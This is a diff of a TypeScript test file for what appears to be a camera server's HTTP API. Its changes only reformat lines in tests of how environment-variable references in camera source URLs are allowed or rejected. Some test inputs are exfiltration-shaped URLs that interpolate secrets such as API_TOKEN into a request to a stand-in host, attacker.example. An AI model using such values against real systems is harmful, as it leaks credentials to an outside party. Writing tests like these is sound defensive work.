@@ -28,7 +28,11 @@ describe('the network and the environment', { timeout: 120_000 }, () => {
   let app: App;
   let base: string;
   const post = async (id: string, body: unknown): Promise<{ status: number; code: string | undefined }> => {
-    const r = await fetch(`${base}/api/cameras/${id}`, { method: 'POST', headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
+    const r = await fetch(`${base}/api/cameras/${id}`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    });
     const json = (await r.json()) as { error?: { code: string } };
     return { status: r.status, code: json.error?.code };
   };
@@ -67,16 +71,28 @@ describe('the network and the environment', { timeout: 120_000 }, () => {
   });
 
   it("references: the file's own names and the allowed prefixes pass, any other name is 403", async () => {
-    const camera = (source: string) => ({ source, capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } }, workers: [{ id: 'motion', module: 'builtin:motion' }] });
+    const camera = (source: string) => ({
+      source,
+      capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } },
+      workers: [{ id: 'motion', module: 'builtin:motion' }],
+    });
     assert.deepEqual(await post('leak', camera('rtsp://${API_TOKEN}@attacker.example/x')), { status: 201, code: undefined }, 'a name the file references');
-    assert.deepEqual(await post('other', camera('rtsp://u:${CAM_OTHER_PASSWORD}@cam.local/x')), { status: 201, code: undefined }, 'a name with an allowed prefix');
+    assert.deepEqual(
+      await post('other', camera('rtsp://u:${CAM_OTHER_PASSWORD}@cam.local/x')),
+      { status: 201, code: undefined },
+      'a name with an allowed prefix',
+    );
     assert.deepEqual(await post('home', camera('rtsp://${HOME}@attacker.example/x')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
     assert.deepEqual(await post('path', camera('rtsp://cam.local/${PATH}')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
     assert.equal(app.system.stats().cameras.home, undefined);
   });
 
   it('with http.allowExec, a camera from the API may have a command worker', async () => {
-    const r = await post('cmd', { source: vtest(), capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } }, workers: [{ id: 'sleeper', command: ['sleep', '600'] }] });
+    const r = await post('cmd', {
+      source: vtest(),
+      capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } },
+      workers: [{ id: 'sleeper', command: ['sleep', '600'] }],
+    });
     assert.deepEqual(r, { status: 201, code: undefined });
   });
 });
